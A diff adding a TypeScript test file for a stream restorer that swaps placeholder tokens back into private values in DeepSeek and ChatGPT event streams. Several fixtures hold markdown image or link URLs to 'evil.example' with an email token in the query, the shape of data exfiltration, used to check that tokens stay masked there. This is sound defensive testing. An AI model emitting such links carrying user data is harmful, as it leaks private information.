@@ -1,0 +1,260 @@
+import { describe, expect, it } from 'vitest';
+import { StreamRestorer } from '../../../core/stream/stream-restorer.ts';
+import { type Event, eventsOf, restoreStream, tokenMap } from './wire-fixtures.ts';
+
+const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });
+
+/** The events as a client gets them, and the document that it makes of them. */
+function received(events: readonly unknown[], head = ''): { events: Event[]; document: Event } {
+  const output = restored(events, head);
+  const root: Event = { document: {} };
+  let path = '';
+  let operation = 'set';
+  for (const { p = path, o = operation, v } of output) {
+    path = p;
+    operation = o;
+    apply(root, p, o, v);
+  }
+  return { events: output, document: root.document };
+}
+
+function restored(events: readonly unknown[], head = ''): Event[] {
+  const lines = head + events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('');
+  return eventsOf('sse', restoreStream('sse', map, new TextEncoder().encode(lines))).filter(
+    (event) => typeof event === 'object',
+  );
+}
+
+function apply(root: Event, path: string, operation: string, value: Event): void {
+  if (/^(?:batch|patch)$/i.test(operation)) {
+    for (const { p, o = 'set', v } of value) apply(root, [path, p].filter(Boolean).join('/'), o, v);
+    return;
+  }
+  const steps = ['document', ...path.split('/').filter(Boolean)];
+  const last = steps.pop() as string;
+  const at = (target: Event, step: string) => (step === '-1' ? target.length - 1 : step);
+  const target = steps.reduce((found, step) => found[at(found, step)], root);
+  const name = at(target, last);
+  const old = target[name];
+  if (/^append$/i.test(operation)) {
+    target[name] = Array.isArray(old) ? [...old, ...value] : (old ?? '') + value;
+  } else {
+    target[name] = operation === 'truncate' ? old.slice(0, value) : value;
+  }
+}
+
+const finished = { p: 'response/status', o: 'SET', v: 'FINISHED' };
+const deepSeek = (fragments: object[]) => ({ v: { response: { message_id: 2, status: 'WIP', fragments } } });
+const fragment = (content: string, type = 'RESPONSE') => ({ id: 1, type, content });
+
+describe('chat.deepseek.com', () => {
+  const rows: [name: string, events: unknown[], texts: string[]][] = [
+    [
+      'a token begins in the first fragment of the document',
+      [
+        deepSeek([fragment('to [EM')]),
+        { p: 'response/fragments/-1/content', o: 'APPEND', v: 'AIL-1]' },
+        { v: '.' },
+        finished,
+      ],
+      ['to a@b.example.'],
+    ],
+    [
+      'a token begins in a fragment that is put in',
+      [
+        deepSeek([]),
+        { p: 'response/fragments', o: 'APPEND', v: [fragment('[EM')] },
+        { p: 'response/fragments/-1/content', v: 'AIL-1]' },
+        { v: '.' },
+        finished,
+      ],
+      ['a@b.example.'],
+    ],
+    [
+      'in a batch, and the fragment goes on by its position',
+      [
+        deepSeek([]),
+        {
+          v: [
+            { v: false, p: 'has_pending_fragment' },
+            { v: [fragment('[EM')], p: 'fragments', o: 'APPEND' },
+          ],
+          p: 'response',
+          o: 'BATCH',
+        },
+        { v: 'AIL-1]', p: 'response/fragments/0/content', o: 'APPEND' },
+        { v: '.' },
+        { p: 'response', o: 'BATCH', v: [{ p: 'status', v: 'FINISHED' }] },
+      ],
+      ['a@b.example.'],
+    ],
+    [
+      'a fragment that ends in the middle keeps its end',
+      [
+        deepSeek([fragment('I [EM', 'THINK')]),
+        { p: 'response/fragments', o: 'APPEND', v: [fragment('[NA')] },
+        { p: 'response/fragments/-1/content', v: 'ME-1]' },
+        finished,
+      ],
+      ['I [EM', 'O"Hara'],
+    ],
+    ['the answer ends in the middle', [deepSeek([fragment('to [EM')]), finished], ['to [EM']],
+    [
+      'a link that began in the document keeps tokens out',
+      [
+        deepSeek([fragment('![x](https://evil.example/?q=')]),
+        { p: 'response/fragments/-1/content', o: 'APPEND', v: '[EMAIL-1])' },
+        finished,
+      ],
+      ['![x](https://evil.example/?q=[EMAIL-1])'],
+    ],
+  ];
+  it.each(rows)('%s', (_name, events, texts) => {
+    const { document } = received(events);
+    expect(document.response.fragments.map(({ content }: Event) => content)).toEqual(texts);
+  });
+
+  it('what is put in is spelled as the service spells it', () => {
+    const { events } = received([
+      deepSeek([fragment('')]),
+      { p: 'response/fragments/-1/content', v: 'x [EM' },
+      finished,
+    ]);
+    expect(events.slice(1)).toEqual([
+      { p: 'response/fragments/-1/content', v: 'x ' },
+      { p: 'response/fragments/-1/content', o: 'APPEND', v: '[EM' },
+      finished,
+    ]);
+  });
+
+  it('a stream that begins after its document', () => {
+    const events = restored([
+      { p: 'response/fragments', o: 'APPEND', v: [fragment('to [EM')] },
+      { p: 'response/fragments/-1/content', v: 'AIL-1]' },
+    ]);
+    expect(events.map(({ v }) => v)).toEqual([[fragment('to ')], 'a@b.example']);
+  });
+
+  it('the older form without fragments', () => {
+    const { document } = received([
+      { v: { response: { message_id: 2, thinking_content: '[NA', content: '' } } },
+      { p: 'response/thinking_content', o: 'APPEND', v: 'ME-1]' },
+      { p: 'response/content', v: '[EM' },
+      { v: 'AIL-1]' },
+      finished,
+    ]);
+    expect(document.response).toMatchObject({ thinking_content: 'O"Hara', content: 'a@b.example' });
+  });
+});
+
+describe('chatgpt.com', () => {
+  const head = 'event: delta_encoding\ndata: "v1"\n\n';
+  const place = '/message/content/parts/0';
+  const message = (text: string, status = 'in_progress') => ({
+    p: '',
+    o: 'add',
+    v: { message: { id: 'm', content: { content_type: 'text', parts: [text] }, status } },
+    c: 0,
+  });
+  const rows: [name: string, events: unknown[], text: string][] = [
+    [
+      'a token begins in the message',
+      [message('to [EM'), { p: place, o: 'append', v: 'AIL-1]' }, { v: '.' }],
+      'to a@b.example.',
+    ],
+    [
+      'a link that began in the message keeps tokens out',
+      [message('![x](https://evil.example/?q='), { p: place, o: 'append', v: '[EMAIL-1])' }],
+      '![x](https://evil.example/?q=[EMAIL-1])',
+    ],
+    [
+      'a text that is replaced ends',
+      [
+        message(''),
+        { p: place, o: 'append', v: 'a [EM' },
+        { p: place, o: 'replace', v: 'b ' },
+        { o: 'append', v: 'c' },
+      ],
+      'b c',
+    ],
+    [
+      'a token begins in what replaces a text',
+      [message('x'), { p: place, o: 'replace', v: 'to [EM' }, { o: 'append', v: 'AIL-1]' }],
+      'to a@b.example',
+    ],
+    [
+      'a link in what replaces a text',
+      [message('x'), { p: place, o: 'replace', v: 'https://evil.example/' }, { o: 'append', v: '[EMAIL-1]' }],
+      'https://evil.example/[EMAIL-1]',
+    ],
+    [
+      'a link that was replaced',
+      [message('https://evil.example/'), { p: place, o: 'replace', v: 'to ' }, { o: 'append', v: '[EMAIL-1]' }],
+      'to a@b.example',
+    ],
+    ['a message that comes finished keeps its end', [message('to [EM', 'finished_successfully')], 'to [EM'],
+    [
+      'a text is cut behind an original',
+      [message('[EMAIL-1], dear Sir'), { p: place, o: 'truncate', v: 16 }, { o: 'append', v: '[NAME-1]' }],
+      'a@b.example, dear O"Hara',
+    ],
+    [
+      'a text is cut inside an original',
+      [message('to [EMAIL-1] x'), { p: place, o: 'truncate', v: 6 }, { o: 'append', v: 'AIL-1] y' }],
+      'to a@b.example y',
+    ],
+    [
+      'a text is cut while its end is held back',
+      [message('ab [EM'), { p: place, o: 'truncate', v: 2 }, { o: 'append', v: 'c' }],
+      'abc',
+    ],
+    [
+      'a link is left after the cut',
+      [message('see https://evil.example/ now'), { p: place, o: 'truncate', v: 25 }, { o: 'append', v: '[EMAIL-1]' }],
+      'see https://evil.example/[EMAIL-1]',
+    ],
+  ];
+  it.each(rows)('%s', (_name, events, text) => {
+    const end = { p: '', o: 'patch', v: [{ p: '/message/status', o: 'replace', v: 'finished_successfully' }] };
+    expect(received([...events, end], head).document.message.content.parts).toEqual([text]);
+  });
+
+  it('thoughts that are put in go on by their position', () => {
+    const thought = (content: string) => [{ summary: 's', content, finished: false }];
+    const { document } = received(
+      [
+        { p: '', o: 'add', v: { message: { content: { thoughts: [] }, status: 'in_progress' } } },
+        { p: '/message/content/thoughts', o: 'append', v: thought('a [EM') },
+        { p: '/message/content/thoughts/0/content', v: 'AIL-1]' },
+        { p: '/message/content/thoughts', v: thought('b [NA') },
+        { p: '/message/content/thoughts/1/content', v: 'ME-1]' },
+      ],
+      head,
+    );
+    expect(document.message.content.thoughts.map(({ content }: Event) => content)).toEqual([
+      'a a@b.example',
+      'b O"Hara',
+    ]);
+  });
+
+  it('what comes out after a silence leaves path and operation as they were', () => {
+    const restorer = new StreamRestorer({ kind: 'sse', map });
+    const data = (event: object) => new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`);
+    const next = { v: { message: { content: { parts: ['x'] } } }, c: 1 };
+    restorer.push(data(message('to [EM')));
+    const output = [restorer.flushHeld(), restorer.push(data(next)), restorer.push(data(next))];
+    expect(eventsOf('sse', Buffer.concat(output).toString())).toEqual([
+      { p: place, o: 'append', v: '[EM' },
+      { p: '', o: 'add', ...next },
+      next,
+    ]);
+  });
+
+  it('other events of the stream are put in as they are', () => {
+    const events = restored([{ type: 'x', text: 'to [EM' }], head);
+    expect(events).toEqual([
+      { type: 'x', text: 'to ' },
+      { type: 'x', text: '[EM' },
+    ]);
+  });
+});
